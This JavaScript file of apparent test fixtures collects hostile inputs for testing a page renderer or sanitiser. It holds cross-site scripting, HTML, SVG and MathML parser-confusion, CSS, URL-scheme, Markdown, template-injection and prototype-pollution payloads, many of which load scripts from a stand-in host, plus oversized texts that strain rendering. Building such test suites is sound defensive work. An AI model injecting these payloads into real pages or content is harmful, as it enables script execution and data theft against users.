// Texts that somebody might write who wants a page to run, load or show what it should not. They
// are written here, one or more for each class that the published collections know. What runs
// calls `pwned`, what loads asks for evil.example.

const RUN = "pwned(1)";
const URL = "http://evil.example/x";

/** Elements that load or run by themselves. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${URL}.js></SCRIPT>`,
  `<script/src="${URL}.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">import("${URL}.mjs")</script>`,
  `<script>/*\n*/${RUN}//</script\n>`,
  `<script\u0000>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style></script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `'"><script>${RUN}</script>`,
  `<iframe src="${URL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  `<frameset><frame src="${URL}"></frameset>`,
  `<object data="${URL}"></object>`,
  `<object type="text/html" data="javascript:${RUN}"></object>`,
  `<embed src="${URL}">`,
  `<embed src="javascript:${RUN}">`,
  `<applet code="${URL}"></applet>`,
  `<link rel="stylesheet" href="${URL}.css">`,
  `<link rel="preload" as="script" href="${URL}.js">`,
  `<link rel="dns-prefetch" href="//evil.example">`,
  `<meta http-equiv="refresh" content="0;url=${URL}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="${URL}/">`,
  `<form action="${URL}"><input name="a"><button>Go</button></form>`,
  `<form><button formaction="javascript:${RUN}">Go</button></form>`,
  `<input type="image" src="${URL}">`,
  `<isindex action="javascript:${RUN}" type="image">`,
  `<video src="${URL}" autoplay></video>`,
  `<video poster="${URL}"></video>`,
  `<audio src="${URL}" autoplay></audio>`,
  `<source srcset="${URL}">`,
  `<picture><source srcset="${URL}"><img></picture>`,
  `<track src="${URL}" default>`,
  `<bgsound src="${URL}">`,
  `<portal src="${URL}"></portal>`,
  `<fencedframe src="${URL}"></fencedframe>`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<xmp><img src="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><script>${RUN}</script>`,
];

/** Attributes that are scripts. */
const HANDLERS = [
  "onerror onload onclick onmouseover onpointerrawupdate onfocus onanimationstart ontransitionend",
  "onbeforetoggle oncontentvisibilityautostatechange onscrollend onsecuritypolicyviolation",
  "onwheel oncopy onpaste onbeforeinput onformdata onslotchange onhashchange onmessage",
]
  .join(" ")
  .split(" ")
  .map((name) => `<img src=x ${name}="${RUN}">`)
  .concat([
    `<img src="${URL}.png">`,
    `<img srcset="${URL}.png 1x">`,
    `<img src=x onerror=${RUN}//`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src='x' ONERROR = '${RUN}'>`,
    `<img src=x\tonerror\n=${RUN}>`,
    `<img src=x onerror="&#112;wned(1)">`,
    `<img src=x onerror=\\u0070wned(1)>`,
    `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
    `<body onload=${RUN}>`,
    `<body background="${URL}">`,
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}><option></select>`,
    `<textarea autofocus onfocus=${RUN}></textarea>`,
    `<details open ontoggle=${RUN}><summary></details>`,
    `<dialog open onclose=${RUN}></dialog>`,
    `<marquee onstart=${RUN}></marquee>`,
    `<div popover id=p onbeforetoggle=${RUN}></div><button popovertarget=p>`,
    `<a ping="${URL}" href="#x">x</a>`,
    `<p style="animation:x" onanimationstart=${RUN}></p>`,
    `<custom-element onclick=${RUN} tabindex=0 autofocus>`,
    `" onmouseover="${RUN}" x="`,
    `' autofocus onfocus='${RUN}`,
    `\` onmouseover=${RUN} \``,
  ]);

/** SVG, MathML and what a parser makes of them when it reads twice. */
const FOREIGN = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${URL}.js"></script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:${RUN}">`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><use href="${URL}.svg#x"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><image href="${URL}.png"/></svg>`,
  `<svg><feImage href="${URL}.png"/></svg>`,
  `<svg><foreignObject><iframe src="${URL}"></iframe></foreignObject></svg>`,
  `<svg><style>@import url(${URL}.css);</style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></desc></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<table><td><svg><title></td><img src=x onerror=${RUN}></title></svg>`,
  `<a><table><a href="javascript:${RUN}">x</a></table></a>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${URL}">]><x>&e;</x>`,
];

/** Styles that load or cover. */
const STYLES = [
  `<style>@import "${URL}.css";</style>`,
  `<style>*{background:url(${URL}.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${URL}.woff)}*{font-family:x}</style>`,
  `<div style="background:url(${URL}.png)">x</div>`,
  `<div style="background-image:image-set('${URL}.png' 1x)">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<div style="-moz-binding:url(${URL}.xml#x)">x</div>`,
  `<div style="behavior:url(${URL}.htc)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>`,
  `<div style="cursor:url(${URL}.cur),auto">x</div>`,
  `x;background:url(${URL}.png)`,
  `red;}*{background:url(${URL}.png)`,
  `"></style><img src=x onerror=${RUN}>`,
];

/** Addresses that are scripts or lead elsewhere, in every form that Markdown has. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript\u003a${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript://evil.example/%0d%0a${RUN}`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `blob:${URL}`,
  `file:///etc/passwd`,
  `filesystem:${URL}`,
  `view-source:javascript:${RUN}`,
  `jar:${URL}!/x`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `http:evil.example`,
  `https://good.example@evil.example/`,
  `https://good.example%2f@evil.example/`,
  `http://evil.example\\@good.example/`,
  `http://[::1]/`,
  `tauri://localhost/`,
  `ipc://localhost/call`,
  `ms-settings:`,
  `smb://evil.example/x`,
];
const LINKS = ADDRESSES.flatMap((address, index) => {
  const forms = [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `<${address}>`,
    `[x][r]\n\n[r]: ${address}`,
    `[![x](${address})](${address})`,
  ];
  // The bare address, and two of the forms in turn: together they are all there for each class.
  return [address, forms[index % forms.length], forms[(index + 3) % forms.length]];
});

/** Markdown that tries to leave its place, and the languages of templates. */
const MARKDOWN = [
  `![x](${URL}.png)`,
  `![x](${URL}.png "title" onerror=${RUN})`,
  `![x][i]\n\n[i]: ${URL}.png`,
  `[x](${URL} "\\" onmouseover=\\"${RUN}")`,
  `[<img src=x onerror=${RUN}>](${URL})`,
  `\`\`\`<script>${RUN}</script>\n${RUN}\n\`\`\``,
  `\`\`\`html onload=${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `\`<script>${RUN}</script>\``,
  `> <script>${RUN}</script>`,
  `- [ ] <input onfocus=${RUN} autofocus>`,
  `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <script>${RUN}</script> | c |`,
  `# <svg onload=${RUN}>`,
  `<div>\n\n**bold** <script>${RUN}</script>\n\n</div>`,
  `*<img src=x onerror=${RUN}>*`,
  `[x]: javascript:${RUN}\n[x]`,
  `[^1]\n\n[^1]: <script>${RUN}</script>`,
  `\\<script>${RUN}\\</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\x3cscript\\x3e${RUN}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{@html "<img src=x onerror=${RUN}>"}`,
  `{#each [1] as x}{${RUN}}{/each}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[[\${${RUN}}]]`,
  `v-html="${RUN}" x-data="${RUN}" ng-app`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"pwned":1}}`,
  `a\u0000b<script>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `\u2028<script>${RUN}</script>\u2029`,
  `\u202e>tpircs<${RUN}\u202c`,
  `＜script＞${RUN}＜/script＞`,
  `<ſcript>${RUN}</ſcript>`,
  `<script>${RUN}</script\u3000>`,
];

/** All of them. PostgreSQL keeps no null, so it stands as what clients write in its place. */
export const HOSTILE = [...ELEMENTS, ...HANDLERS, ...FOREIGN, ...STYLES, ...LINKS, ...MARKDOWN].map(
  (text) => text.replaceAll("\u0000", "\ufffd"),
);

const ZALGO = Array.from("Zalgo comes", (letter) => letter + "\u0301\u0316\u0334\u035c".repeat(24));

const TABLE = `${"| wide cell ".repeat(60)}|`;

/** Texts that are too much, rather than wrong: `[name, text]`. */
export const LARGE = [
  ["a word of 100 KB", "w".repeat(100_000)],
  ["an address of 8 KB", `https://example.com/${"a".repeat(8_000)}`],
  ["10,000 lines", Array.from({ length: 10_000 }, (_, line) => `line ${line}`).join("\n")],
  ["overrides of direction", "\u202e\u2066\u202dabc\u2067".repeat(500)],
  ["overrides that never end", `\u202e${"start ".repeat(20)}`],
  ["marks on marks", ZALGO.join("").repeat(10)],
  ["a huge table", `${TABLE}\n${"|---".repeat(60)}|\n${`${TABLE}\n`.repeat(100)}`],
  ["deep quotes", `${"> ".repeat(400)}deep`],
  ["deep lists", Array.from({ length: 200 }, (_, deep) => `${"  ".repeat(deep)}- x`).join("\n")],
  ["deep emphasis", `${"*a **b ".repeat(300)}`],
  ["open brackets", "[".repeat(5_000)],
  ["a wide line of code", `\`\`\`js\n${"x = 1; ".repeat(5_000)}\n\`\`\``],
  ["no letters at all", "\u200b\u200d\ufe0f".repeat(2_000)],
  ["families", "👨‍👩‍👧‍👦".repeat(1_000)],
  ["tabs", "\t".repeat(4_000)],
  ["a tall stack of headings", "# h\n".repeat(500)],
];
